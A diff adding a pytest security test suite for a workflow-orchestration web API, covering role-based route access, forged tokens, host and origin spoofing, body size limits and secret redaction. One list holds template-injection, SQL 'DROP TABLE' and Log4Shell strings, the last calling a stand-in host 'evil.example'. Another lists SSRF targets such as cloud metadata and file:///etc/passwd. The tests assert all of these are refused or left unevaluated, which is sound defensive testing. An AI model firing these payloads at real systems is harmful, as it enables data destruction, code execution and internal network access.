@@ -1,0 +1,338 @@
+"""Nobody gets in who should not, and what comes in stays data."""
+
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from typing import Any
+
+import pytest
+from fleet import fan, graph, single, task
+from web import Web, web
+
+from dagmaster.model.access import Role
+from dagmaster.web.access import TOKEN_PREFIX, decision
+from dagmaster.web.app import ROUTERS
+
+# Who may use what: a new route is not served before somebody has written it down here too.
+ALL, READ, OWN, SUBMIT, OPERATE, REPORT, MEASURE, ADMIN = (
+    "everybody",
+    {"admin", "operator", "viewer"},
+    {"admin", "operator", "viewer", "partner"},
+    {"admin", "operator", "partner"},
+    {"admin", "operator"},
+    {"admin", "worker"},
+    {"admin", "operator", "viewer", "worker"},
+    {"admin"},
+)
+DECIDED: dict[str, Any] = {
+    "GET /": ALL,
+    "GET /livez": ALL,
+    "GET /readyz": ALL,
+    "GET /health": ALL,
+    "GET /health/{check}": ALL,
+    "WS /ws/jobs/{job_id}": ALL,  # It looks at the key itself: browsers send it as the first message.
+    "POST /api/v1/jobs": SUBMIT,
+    "GET /api/v1/jobs": OWN,
+    "GET /api/v1/jobs/{job_id}": OWN,
+    "POST /api/v1/jobs/{job_id}/cancel": SUBMIT,
+    "POST /api/v1/jobs/{job_id}/pause": OPERATE,
+    "POST /api/v1/jobs/{job_id}/resume": OPERATE,
+    "POST /api/v1/jobs/{job_id}/retry": OPERATE,
+    "POST /api/v1/jobs/{job_id}/nodes/{node_id}/retry": OPERATE,
+    "GET /api/v1/nodes": READ,
+    "GET /api/v1/tasks": READ,
+    "GET /api/v1/jobs/{job_id}/nodes": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}/checkpoints": OWN,
+    "GET /api/v1/jobs/{job_id}/timeline": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}/timeline": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}/events": OWN,
+    "GET /api/v1/jobs/{job_id}/graph": OWN,
+    "GET /api/v1/jobs/{job_id}/progress": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}/progress": OWN,
+    "GET /api/v1/jobs/{job_id}/stream": OWN,
+    "GET /api/v1/jobs/{job_id}/explain": OWN,
+    "GET /api/v1/jobs/{job_id}/nodes/{node_id}/explain": OWN,
+    "GET /api/v1/workflows": OWN,
+    "GET /api/v1/workflows/{workflow_id}": OWN,
+    "POST /api/v1/workflows/reload": OPERATE,
+    "GET /api/v1/queues/status": READ,
+    "GET /api/v1/workers": READ,
+    "GET /api/v1/orchestrator/status": READ,
+    "GET /api/v1/orchestrator/stats": READ,
+    "GET /api/v1/orchestrator/activity": READ,
+    "GET /api/v1/metrics/workflows": READ,
+    "GET /api/v1/metrics/workflows/{workflow_id}/nodes": READ,
+    "GET /api/v1/metrics/failures": READ,
+    "GET /api/v1/metrics/throughput": READ,
+    "GET /metrics": MEASURE,
+    "POST /api/v1/callbacks/task-result": REPORT,
+    "POST /api/v1/callbacks/task-progress": REPORT,
+    "POST /api/v1/callbacks/checkpoint": REPORT,
+    "POST /api/v1/tasks/{task_id}/token": REPORT,
+    "GET /api/v1/commands": OPERATE,
+    "POST /api/v1/commands/{name}": OPERATE,
+    "GET /api/v1/bootstrap/status": ADMIN,
+    "GET /api/v1/bootstrap/tables": ADMIN,
+    "GET /api/v1/bootstrap/ddl": ADMIN,
+    "POST /api/v1/bootstrap/deploy": ADMIN,
+    "POST /api/v1/bootstrap/migrate": ADMIN,
+    "POST /api/v1/bootstrap/rebuild": ADMIN,
+    "GET /api/v1/doctor": OPERATE,
+    "POST /api/v1/doctor/repair": ADMIN,
+    "GET /api/v1/audit": ADMIN,
+    "GET /api/v1/keys": ADMIN,
+    "POST /api/v1/keys": ADMIN,
+    "DELETE /api/v1/keys/{key_id}": ADMIN,
+    "GET /api/v1/test/handlers": ADMIN,
+    "POST /api/v1/test/handler/{name}": ADMIN,
+    "POST /api/v1/submit": SUBMIT,
+    "GET /api/v1/status/job/{job_id}": OWN,
+    "GET /api/v1/status/job/{job_id}/nodes": OWN,
+    "GET /api/v1/status/job/{job_id}/events": OWN,
+    "POST /api/dag/submit": SUBMIT,
+    "GET /api/dag/jobs/{job_id}": OWN,
+    "GET /api/dag/jobs/{job_id}/nodes": OWN,
+    "POST /api/dag/jobs/{job_id}/cancel": SUBMIT,
+}
+ROUTES = {
+    f"{method} {route.path}": decision(route)
+    for router in ROUTERS
+    for route in router.routes
+    for method in getattr(route, "methods", None) or ("WS",)
+}
+REPORTS = {f"POST /api/v1/callbacks/{kind}" for kind in ("task-result", "task-progress", "checkpoint")}
+
+
+def test_every_route_is_decided_upon() -> None:
+    found = {
+        name: ALL if allow is None or allow.roles is None else {role.value for role in allow.roles}
+        for name, allow in ROUTES.items()
+    }
+    assert found == DECIDED
+
+
+async def call(it: Web, name: str, headers: dict[str, str] | None = None) -> tuple[int, str]:
+    """Status and code of the answer to a request that has nothing in it."""
+    method, path = name.split(" ")
+    for parameter in ("job_id", "node_id", "workflow_id", "task_id", "key_id", "name", "check"):
+        path = path.replace(f"{{{parameter}}}", "1")
+    body = {} if method == "POST" else None
+    answer = await it.client.request(method, path, headers=headers, json=body)
+    is_json = answer.headers.get("content-type", "").startswith("application/json")
+    said = answer.json() if is_json else {}
+    return answer.status_code, said.get("detail", "") if isinstance(said, dict) else ""
+
+
+async def test_each_role_against_each_route(dsn: str) -> None:
+    async with web(dsn) as it:
+        keys = {role.value: await it.key(role.value, role) for role in Role}
+        wrong = []
+        for name, allowed in DECIDED.items():
+            if allowed is ALL or name.startswith("WS"):
+                continue
+            for role, headers in keys.items():
+                status, detail = await call(it, name, headers)
+                refused = status == 403 and detail.startswith(f"a key of role {role} may not")
+                if refused is (role in allowed) or status in (401, 500):
+                    wrong.append((name, role, status, detail))
+        assert not wrong
+
+
+async def test_without_a_key_or_with_a_wrong_one_nothing_is_told(dsn: str) -> None:
+    async with web(dsn) as it:
+        key = await it.key("somebody")
+        changed = {"Authorization": key["Authorization"][:-1] + ("a" if key["Authorization"][-1] != "a" else "b")}
+        for headers in ({}, changed, {"Authorization": "Basic YTpi"}, {"X-API-Key": "dm_x"}):
+            for name, allowed in DECIDED.items():
+                if allowed is not ALL:
+                    assert (await call(it, name, headers))[0] == 401, (name, headers)
+
+
+async def test_a_task_token_opens_nothing_but_reports(dsn: str) -> None:
+    async with web(dsn) as it:
+        await it.key("somebody")
+        token = {"Authorization": f"Bearer {TOKEN_PREFIX}forged"}
+        for name, allowed in DECIDED.items():
+            if allowed is not ALL and name not in REPORTS:
+                assert (await call(it, name, token))[0] == 401, name
+        for name in REPORTS:
+            path = name.partition(" ")[2]
+            body = {"task_id": "1_a_0", "status": "completed", "phase_name": "x", "progress_current": 1}
+            wanted = {"task-result": ("task_id", "status"), "task-progress": ("task_id", "progress_current")}
+            kept = wanted.get(path.rpartition("/")[2], ("task_id", "phase_name"))
+            answer = await it.client.post(path, json={key: body[key] for key in kept}, headers=token)
+            assert answer.status_code == 403, answer.text
+
+
+NEAR = {"host": "127.0.0.1"}
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"host": "evil.example"},
+        {"host": "evil.example:8080"},
+        {"host": "127.0.0.1.evil.example"},
+        {**NEAR, "origin": "https://evil.example"},
+        {**NEAR, "origin": "null"},
+        {**NEAR, "x-forwarded-for": "203.0.113.7"},
+        {**NEAR, "forwarded": "for=203.0.113.7"},
+    ],
+)
+async def test_without_keys_a_foreign_page_or_a_proxy_is_not_this_machine(dsn: str, headers: dict[str, str]) -> None:
+    async with web(dsn) as it:
+        await it.get("/api/v1/jobs", headers=NEAR)
+        await it.get("/api/v1/jobs", status=401, headers=headers)
+
+
+async def test_a_server_for_others_serves_nobody_without_keys(dsn: str) -> None:
+    async with web(dsn, is_local=False) as it:
+        await it.get("/api/v1/jobs", status=401)
+        await it.get("/api/v1/jobs", headers=await it.key("me"))
+
+
+async def test_a_partner_sees_only_its_own_jobs(dsn: str) -> None:
+    async with web(dsn, single()) as it:
+        first, second = await it.key("first", Role.PARTNER), await it.key("second", Role.PARTNER)
+        body = {"workflow_id": "single", "submitted_by": "second"}
+        job = await it.post("/api/v1/jobs", body, 201, headers=first)
+        path = f"/api/v1/jobs/{job['job_id']}"
+        assert (await it.get(path, headers=first))["submitted_by"] == "first"
+        await it.get(path, status=404, headers=second)
+        await it.post(f"{path}/cancel", status=404, headers=second)
+        assert (await it.get("/api/v1/jobs?submitted_by=first", headers=second))["items"] == []
+        assert len((await it.get("/api/v1/jobs", headers=first))["items"]) == 1
+
+
+# What comes in stays data
+
+
+INJECTED = [
+    "{{ 7 * 7 }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{{ env.SECRET }}",
+    "{{ inputs.__class__ }}",
+    "'; DROP TABLE dagapp.dag_jobs; --",
+    "${jndi:ldap://evil.example/x}",
+]
+
+
+async def test_templates_in_inputs_are_never_evaluated(dsn: str) -> None:
+    echo = task("echo", "END", params={"text": "{{ inputs.text }}"})
+    async with web(dsn, graph({"work": echo}, "echoes", start="work", inputs={"text": "string"}), runs=True) as it:
+        for text in INJECTED:
+            body = {"workflow_id": "echoes", "input_params": {"text": text}}
+            job = await it.post("/api/v1/jobs", body, 201)
+            [row] = await it.fleet.completed(int(job["job_id"]))
+            assert row["result_data"]["work"]["echoed_params"]["text"] == text
+
+
+async def test_templates_in_fan_out_items_are_never_evaluated(dsn: str) -> None:
+    async with web(dsn, fan(params={"text": "{{ item }}"}), runs=True) as it:
+        body = {"workflow_id": "fan", "input_params": {"items": INJECTED}}
+        job = await it.post("/api/v1/jobs", body, 201)
+        [row] = await it.fleet.completed(int(job["job_id"]))
+        results = row["result_data"]["gather"]["results"]
+        assert [one["echoed_params"]["text"] for one in results] == INJECTED
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://example.com/x",
+        "https://127.0.0.1/x",
+        "https://localhost/x",
+        "https://2130706433/",
+        "https://0x7f.1/",
+        "https://[::1]/",
+        "https://[::ffff:10.0.0.1]/",
+        "https://169.254.169.254/latest/meta-data",
+        "https://10.1.2.3/",
+        "https://192.168.1.1/",
+        "https://user:secret@example.com/",
+        "file:///etc/passwd",
+        "gopher://example.com/",
+        "https://example.com:0/",
+        "not an address",
+    ],
+)
+async def test_a_callback_into_our_own_network_is_refused_at_submission(dsn: str, url: str) -> None:
+    async with web(dsn, single()) as it:
+        said = await it.post("/api/v1/jobs", {"workflow_id": "single", "callback_url": url}, 422)
+        assert said["error"]["code"] == "refused"
+        assert (await it.get("/api/v1/jobs"))["items"] == []
+
+
+# How much comes in
+
+
+@asynccontextmanager
+async def small(dsn: str) -> AsyncIterator[Web]:
+    async with web(dsn, single(), max_body_bytes=1000) as it:
+        yield it
+
+
+async def test_a_body_that_says_it_is_too_long_is_refused(dsn: str) -> None:
+    async with small(dsn) as it:
+        said = await it.post("/api/v1/jobs", {"workflow_id": "x" * 2000}, 413)
+        assert said["error"]["code"] == "too_large"
+
+
+async def test_a_body_that_turns_out_to_be_too_long_is_refused(dsn: str) -> None:
+    async def pieces() -> AsyncIterator[bytes]:
+        for _ in range(50):
+            yield b" " * 100
+
+    async with small(dsn) as it:
+        headers = {"content-type": "application/json"}
+        answer = await it.client.post("/api/v1/jobs", content=pieces(), headers=headers)
+        assert answer.status_code == 413
+        assert answer.json()["error"]["code"] == "too_large"
+
+
+async def test_a_workflow_with_too_many_nodes_is_refused(dsn: str) -> None:
+    async with web(dsn, single(), max_nodes=2) as it:
+        said = await it.post("/api/v1/jobs", {"workflow_id": "single"}, 422)
+        assert "DAGMASTER_MAX_NODES" in said["error"]["message"]
+
+
+# What goes out
+
+
+async def test_secrets_are_not_shown(dsn: str) -> None:
+    workflow = single(workflow_id="open").workflow.model_copy(update={"additional_inputs": True})
+    async with web(dsn, runs=True) as it:
+        it.services.catalog.register(workflow)
+        inputs = {"password": "hush-1", "url": "https://user:hush-2@example.com/?sig=hush-3", "plain": "seen"}
+        job = await it.post("/api/v1/jobs", {"workflow_id": "open", "input_params": inputs}, 201)
+        await it.fleet.completed(int(job["job_id"]))
+        for path in ("", "/timeline", "/nodes", "/nodes/work"):
+            answer = await it.client.get(f"/api/v1/jobs/{job['job_id']}{path}")
+            assert answer.status_code == 200
+            assert "hush" not in answer.text
+        stored = await it.fleet.rows("SELECT event_data::text AS data FROM dagapp.dag_job_events")
+        assert not any("hush" in (row["data"] or "") for row in stored)
+
+
+async def test_an_unexpected_error_tells_no_story(dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    async def break_down(*_: Any, **__: Any) -> None:
+        raise RuntimeError("password=hush in /etc/dagmaster.toml")
+
+    monkeypatch.setattr("dagmaster.store.jobs.list_jobs", break_down)
+    async with web(dsn) as it:
+        answer = await it.client.get("/api/v1/jobs")
+        assert answer.status_code == 500
+        assert answer.json()["error"]["code"] == "internal_error"
+        assert "hush" not in answer.text and "Traceback" not in answer.text
+
+
+async def test_changes_say_who_made_them(dsn: str) -> None:
+    async with web(dsn, single(handler="sleep", params={"seconds": 60}), runs=True) as it:
+        ada = await it.key("ada", Role.OPERATOR)
+        job = await it.post("/api/v1/jobs", {"workflow_id": "single"}, 201, headers=ada)
+        path = f"/api/v1/jobs/{job['job_id']}"
+        for act in ("pause", "resume", "cancel"):
+            await it.post(f"{path}/{act}", headers=ada)
+        told = {row["event_type"]: row["event_data"] for row in await it.fleet.events(int(job["job_id"]))}
+        assert told["job_created"]["submitted_by"] == "ada"
+        assert [told[f"job_{act}"]["actor"] for act in ("paused", "resumed", "cancelled")] == ["ada"] * 3
